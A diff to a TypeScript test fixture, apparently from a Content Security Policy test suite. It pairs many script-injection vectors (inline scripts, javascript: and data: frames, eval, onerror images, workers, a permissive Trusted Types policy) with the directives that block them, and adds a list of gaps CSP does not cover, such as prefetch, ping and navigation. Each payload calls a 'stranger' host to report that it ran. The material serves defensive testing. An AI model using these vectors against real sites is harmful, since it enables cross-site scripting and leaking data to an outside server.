@@ -5,6 +5,8 @@ export interface Injection {
   what: string;
   /** The directive that stops it. */
   by: string;
+  /** The directive of Trusted Types that stops it before, in a browser that has them. */
+  typed?: 'require-trusted-types-for' | 'trusted-types';
   /** What stands in the page as it comes over the wire. What it wants pressed has the id "press". */
   markup?: (stranger: string) => string;
   /** What a script of the page does. */
@@ -13,6 +15,8 @@ export interface Injection {
 
 /** A script that lets the stranger know that it ran. */
 const tell = (stranger: string) => `fetch('${stranger}/ran', { mode: 'no-cors' })`;
+
+const TYPED = 'require-trusted-types-for';
 
 const SCRIPTS: Injection[] = [
   { what: 'an inline script', by: 'script-src-elem', markup: (to) => `<script>${tell(to)}</script>` },
@@ -31,13 +35,14 @@ const SCRIPTS: Injection[] = [
   { what: 'a frame of javascript:', by: 'script-src-elem', markup: (to) => `<iframe src="javascript:void ${tell(to)}"></iframe>` },
   { what: 'a frame with markup of its own', by: 'script-src-elem', markup: (to) => `<iframe srcdoc="<script>${tell(to)}</script>"></iframe>` },
   { what: 'a data: frame', by: 'frame-src', markup: (to) => `<iframe src="data:text/html,<script>${tell(to)}</script>"></iframe>` },
-  { what: 'eval', by: 'script-src', inPage: (to) => setTimeout(() => eval(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
-  { what: 'new Function', by: 'script-src', inPage: (to) => setTimeout(() => new Function(`fetch('${to}/ran', { mode: 'no-cors' })`)()) },
-  { what: 'a timer with a text', by: 'script-src', inPage: (to) => setTimeout(() => setTimeout(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
+  { what: 'eval', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => eval(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
+  { what: 'new Function', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => new Function(`fetch('${to}/ran', { mode: 'no-cors' })`)()) },
+  { what: 'a timer with a text', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => setTimeout(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
   { what: 'an import from elsewhere', by: 'script-src-elem', inPage: (to) => void import(`${to}/a.js`).catch(() => {}) },
   {
     what: 'a handler set by a script',
-    by: 'require-trusted-types-for',
+    by: 'script-src-attr',
+    typed: TYPED,
     inPage: (to) => {
       const button = document.createElement('button');
       button.setAttribute('onclick', `fetch('${to}/ran', { mode: 'no-cors' })`);
@@ -46,7 +51,8 @@ const SCRIPTS: Injection[] = [
   },
   {
     what: 'a script made by a script',
-    by: 'require-trusted-types-for',
+    by: 'script-src-elem',
+    typed: TYPED,
     inPage: (to) => {
       const script = document.createElement('script');
       script.text = `fetch('${to}/ran', { mode: 'no-cors' })`;
@@ -55,7 +61,8 @@ const SCRIPTS: Injection[] = [
   },
   {
     what: 'a script from elsewhere, made by a script',
-    by: 'require-trusted-types-for',
+    by: 'script-src-elem',
+    typed: TYPED,
     inPage: (to) => {
       const script = document.createElement('script');
       script.src = `${to}/a.js`;
@@ -64,17 +71,23 @@ const SCRIPTS: Injection[] = [
   },
   {
     what: 'a text read as markup',
-    by: 'require-trusted-types-for',
+    by: 'script-src-attr',
+    typed: TYPED,
     inPage: (to) => document.body.insertAdjacentHTML('beforeend', `<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`),
   },
   {
-    what: 'a whole document from a text',
-    by: 'require-trusted-types-for',
-    inPage: (to) => document.write(`<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`),
+    what: 'a piece of a document made of a text',
+    by: 'script-src-attr',
+    typed: TYPED,
+    inPage: (to) => {
+      const markup = `<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`;
+      document.body.append(new Range().createContextualFragment(markup));
+    },
   },
   {
     what: 'a policy of its own for texts',
-    by: 'trusted-types',
+    by: 'script-src-attr',
+    typed: 'trusted-types',
     inPage: (to) => {
       const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createHTML(text: string): string } } };
       const policy = trustedTypes.createPolicy('lax', { createHTML: (text: string) => text });
@@ -83,12 +96,14 @@ const SCRIPTS: Injection[] = [
   },
   {
     what: 'a worker',
-    by: 'require-trusted-types-for',
+    by: 'worker-src',
+    typed: TYPED,
     inPage: (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/ran', { mode: 'no-cors' })`]))),
   },
   {
     what: 'a shared worker',
-    by: 'require-trusted-types-for',
+    by: 'worker-src',
+    typed: TYPED,
     inPage: (to) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}/ran', { mode: 'no-cors' })`]))),
   },
 ];
@@ -164,13 +179,19 @@ const OTHERS: Injection[] = [
       void fetch('a.html', { mode: 'no-cors' });
     },
   },
-  { what: 'a prefetch', by: 'default-src', markup: (to) => `<link rel="prefetch" href="${to}/a.html">` },
   { what: 'a preload', by: 'img-src', markup: (to) => `<link rel="preload" as="image" href="${to}/a.svg">` },
   { what: 'a preload of a module', by: 'script-src-elem', markup: (to) => `<link rel="modulepreload" href="${to}/a.js">` },
   { what: 'a web socket', by: 'connect-src', inPage: (to) => new WebSocket(`${to.replace('http', 'ws')}/a`) },
 ];
 
 export const INJECTIONS: Injection[] = [...SCRIPTS, ...SHEETS, ...IMAGES, ...OTHERS];
+
+/** What no policy forbids that leaves a person the choice of a server. */
+export const GAPS: Injection[] = [
+  { what: 'a prefetch', by: '', markup: (to) => `<link rel="prefetch" href="${to}/a.html">` },
+  { what: 'a ping', by: '', markup: (to) => `<a id="press" ping="${to}/a" href="#x">x</a>` },
+  { what: 'a way elsewhere', by: '', inPage: (to) => location.assign(`${to}/a.html`) },
+];
 
 /** Does in the page what there is to do, beside what stands in it already. */
 export async function inject(page: Page, { inPage }: Injection, stranger: string) {
